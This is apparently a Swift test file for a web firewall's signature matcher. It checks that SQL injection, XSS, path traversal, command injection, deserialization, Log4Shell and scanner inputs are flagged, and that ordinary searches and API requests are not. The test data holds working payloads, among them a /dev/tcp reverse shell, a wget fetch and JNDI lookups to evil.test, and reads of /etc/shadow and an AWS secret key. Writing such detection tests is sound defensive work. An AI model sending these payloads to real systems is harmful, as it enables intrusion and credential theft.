// The attack-signature table: inputs that must match (with the category they
// must match) and ordinary requests that must not (real-looking searches,
// JSON APIs, markdown, paths, user agents). Each entry is checked where it
// would arrive: the path, the query, or a header field.
import Testing
import EdgeHTTP
@testable import EdgeProtect

@Suite struct SignatureTests {
    enum Place { case path, query, field(String) }

    /// Runs the check on a request built around `text`.
    func check(_ text: String, _ place: Place, _ config: SignatureConfig = SignatureConfig()) -> SignatureHit? {
        var r = RuleRequest(path: "/search")
        switch place {
        case .path: r.path = text
        case .query: r.query = text
        case .field(let n): r.fields = [(n, text)]
        }
        var scratch: [UInt8] = []
        return r.with { Signatures.check($0, config, fields: config.fields.map { Array($0.utf8) }, scratch: &scratch) }
    }

    static let mustMatch: [(String, Place, SignatureCategory)] = [
        // SQL injection
        ("q=1' OR '1'='1", .query, .sqli),
        ("id=1%27%20or%201%3D1--", .query, .sqli),
        ("id=1 UNION SELECT username, password FROM users", .query, .sqli),
        ("id=1+union+all+select+null,null", .query, .sqli),
        ("id=-1/**/UNION/**/SELECT/**/1,2", .query, .sqli),
        ("user=admin'--", .query, .sqli),
        ("user=admin' #", .query, .sqli),
        ("id=1; DROP TABLE users", .query, .sqli),
        ("id=1' AND SLEEP(5)", .query, .sqli),
        ("id=1 and benchmark(1000000,md5(1))", .query, .sqli),
        ("id=1'; WAITFOR DELAY '0:0:5'--", .query, .sqli),
        ("id=1 AND 1=2 UNION SELECT table_name FROM information_schema.tables", .query, .sqli),
        ("x=\") or (\"a\"=\"a", .query, .sqli),
        ("id=1%2527%2520or%25201%253D1", .query, .sqli),   // twice encoded
        ("session=abc' or 1=1 --", .field("cookie"), .sqli),
        // Cross-site scripting
        ("q=<script>alert(1)</script>", .query, .xss),
        ("q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", .query, .xss),
        ("q=<img src=x onerror=alert(1)>", .query, .xss),
        ("q=<svg/onload=alert(1)>", .query, .xss),
        ("q=<body onload =alert(1)>", .query, .xss),
        ("next=javascript:alert(1)", .query, .xss),
        ("next=JaVaScRiPt%3Aalert(1)", .query, .xss),
        ("next=java%09script:alert(1)", .query, .xss),
        ("q=<iframe src=//evil.test>", .query, .xss),
        ("u=data:text/html;base64,PHNjcmlwdD4=", .query, .xss),
        ("https://a.test/\"><script>alert(1)</script>", .field("referer"), .xss),
        // Path traversal
        ("/static/../../etc/passwd", .path, .traversal),
        ("/download/..%2f..%2fetc%2fpasswd", .path, .traversal),
        ("/download/%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", .path, .traversal),
        ("file=../../../../etc/shadow", .query, .traversal),
        ("file=....//....//etc/hosts", .query, .traversal),
        ("/files/%c0%ae%c0%ae/secret", .path, .traversal),
        ("/app/..;/manager/html", .path, .traversal),
        ("page=/proc/self/environ", .query, .traversal),
        ("file=C:\\Windows\\System32\\drivers\\etc\\hosts", .query, .traversal),
        ("path=%252e%252e%252fconfig", .query, .traversal),
        // Shell and command injection
        ("host=127.0.0.1; cat /etc/issue", .query, .command),
        ("host=127.0.0.1|id", .query, .command),
        ("ip=1.2.3.4 && wget http://evil.test/x.sh", .query, .command),
        ("q=$(whoami)", .query, .command),
        ("q=`id`", .query, .command),
        ("cmd=;${IFS}cat${IFS}/etc/issue", .query, .command),
        ("x=1;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", .query, .command),
        ("f=a.txt| nc 10.0.0.1 4444", .query, .command),
        ("() { :; }; /bin/bash -c 'id'", .field("user-agent"), .command),
        // Deserialization
        ("data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", .query, .deserialization),
        ("data=O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", .query, .deserialization),
        ("data=a:2:{s:4:\"user\";s:5:\"admin\";}", .query, .deserialization),
        ("x=%ac%ed%00%05sr", .query, .deserialization),
        ("class=java.lang.Runtime", .query, .deserialization),
        ("__proto__[admin]=1", .query, .deserialization),
        // Log4Shell-style lookups
        ("${jndi:ldap://evil.test/a}", .field("user-agent"), .log4shell),
        ("${jndi:ldap://evil.test/a}", .field("x-api-version"), .log4shell),   // any field
        ("q=%24%7Bjndi%3Armi%3A%2F%2Fevil.test%2Fa%7D", .query, .log4shell),
        ("${${lower:j}ndi:ldap://evil.test/a}", .field("x-forwarded-for"), .log4shell),
        ("${${::-j}${::-n}${::-d}${::-i}:ldap://evil.test/a}", .field("referer"), .log4shell),
        ("${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.test/a}", .field("x-anything"), .log4shell),
        ("${${upper:j}${upper:n}di:dns://evil.test}", .field("cookie"), .log4shell),
        ("${env:AWS_SECRET_ACCESS_KEY}", .field("x-token"), .log4shell),
        // Scanners
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", .field("user-agent"), .scanner),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", .field("user-agent"), .scanner),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", .field("user-agent"), .scanner),
        ("Fuzz Faster U Fool v2.0 wfuzz", .field("user-agent"), .scanner),
        ("Mozilla/5.0 zgrab/0.x", .field("user-agent"), .scanner),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", .field("user-agent"), .scanner),
    ]

    static let mustNotMatch: [(String, Place)] = [
        // Searches people type
        ("q=how+to+select+a+union+representative", .query),
        ("q=select+all+from+the+menu", .query),
        ("q=union+station+to+times+square", .query),
        ("q=rock+%27n%27+roll+or+jazz", .query),
        ("q=O%27Reilly+books", .query),
        ("q=don%27t+stop+me+now", .query),
        ("q=cats+%26+dogs%3B+cat+toys", .query),
        ("q=%22harry+potter%22+and+the+chamber", .query),
        ("q=1%2F2+cup+sugar+or+honey", .query),
        ("q=drop+shipping+business", .query),
        ("q=sleep+apnea+treatment", .query),
        ("q=script+writing+course", .query),
        ("q=a+%3C+b+and+c+%3E+d", .query),
        ("q=how+to+use+%24%28document%29.ready", .query),
        ("q=ls+vs+dir", .query),
        ("q=echo+dot+review", .query),
        ("q=id+card+renewal", .query),
        ("q=what+is+1%3D1", .query),
        ("q=C%2B%2B+templates+%26+generics", .query),
        ("q=..+and+so+on", .query),
        // APIs and apps
        ("filter=%7B%22status%22%3A%22active%22%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D", .query),
        ("fields=id,name,email&sort=-created_at&page[size]=20", .query),
        ("redirect_uri=https%3A%2F%2Fapp.example%2Fcallback%3Fx%3D1", .query),
        ("token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc_DEF-123", .query),
        ("text=**bold**+and+_italic_+%60code%60+%5Blink%5D(http%3A%2F%2Fa.test)", .query),
        ("md=%23+Title%0A%0A-+item+one%0A-+item+two", .query),
        ("html=%3Cp%3EHello+%3Cb%3Eworld%3C%2Fb%3E%3C%2Fp%3E", .query),
        ("email=o%27brien%40example.com", .query),
        ("date=2024-01-01T00:00:00Z&tz=Europe/Paris", .query),
        ("callback=jQuery123_456&_=1700000000", .query),
        ("price=10..20", .query),
        ("v=1.2.3&os=linux", .query),
        ("query=select%20count(*)%20as%20n", .query),
        // Paths
        ("/blog/2024/05/why-union-select-is-dangerous", .path),
        ("/wiki/Category:Command-line_interfaces", .path),
        ("/api/v1/users/42/orders", .path),
        ("/static/js/app.min.js", .path),
        ("/files/report..final.pdf", .path),
        ("/docs/etc/passwd-policy.html", .path),
        ("/search/cat-food", .path),
        ("/products/a%20b%20c", .path),
        // Fields
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", .field("user-agent")),
        ("curl/8.5.0", .field("user-agent")),
        ("python-requests/2.31.0", .field("user-agent")),
        ("Googlebot/2.1 (+http://www.google.com/bot.html)", .field("user-agent")),
        ("https://www.google.com/search?q=cheap+flights&oq=cheap", .field("referer")),
        ("session=abc123; theme=dark; consent=yes", .field("cookie")),
        ("prefs=%7B%22a%22%3A1%7D; _ga=GA1.2.3.4", .field("cookie")),
        ("application/json, text/plain, */*", .field("accept")),
        ("${HOME} is not a lookup attackers use", .field("x-note")),
    ]

    @Test func attacksMatch() {
        for (text, place, category) in Self.mustMatch {
            let hit = check(text, place)
            #expect(hit?.category == category, "\(text): \(hit.map { $0.category.name } ?? "no match"), expected \(category.name)")
        }
    }

    @Test func ordinaryRequestsDoNotMatch() {
        for (text, place) in Self.mustNotMatch {
            let hit = check(text, place)
            #expect(hit == nil, "\(text) matched \(hit.map { $0.category.name } ?? "")")
        }
    }

    @Test func categoriesAndFieldsAreChosen() {
        var c = SignatureConfig()
        c.categories = [.xss]
        #expect(check("q=1' or '1'='1", .query, c) == nil)
        #expect(check("q=<script>", .query, c)?.category == .xss)
        // A field not listed is checked for lookups only.
        #expect(check("<script>alert(1)</script>", .field("x-custom")) == nil)
        c = SignatureConfig()
        c.fields = ["x-custom"]
        #expect(check("<script>alert(1)</script>", .field("x-custom"), c)?.category == .xss)
        // Scanners are recognized in User-Agent only.
        #expect(check("sqlmap", .field("referer")) == nil)
    }

    @Test func normalization() {
        var out: [UInt8] = []
        func n(_ s: String, query: Bool = true) -> String {
            Array(s.utf8).withUnsafeBytes { Signatures.normalize($0, query: query, into: &out) }
            return String(decoding: out, as: UTF8.self)
        }
        #expect(n("A%2541+b") == "aa b")            // twice
        #expect(n("A%252541") == "a%41")           // a third time is not done
        #expect(n("%252e%252e") == "..")
        #expect(n("a+b", query: false) == "a+b")
        #expect(n("x/**/y") == "x y")
        #expect(n("a\\b") == "a/b")
        #expect(n("%u002e%u002e/") == "../")
        #expect(n("%zz%4") == "%zz%4")
    }
}
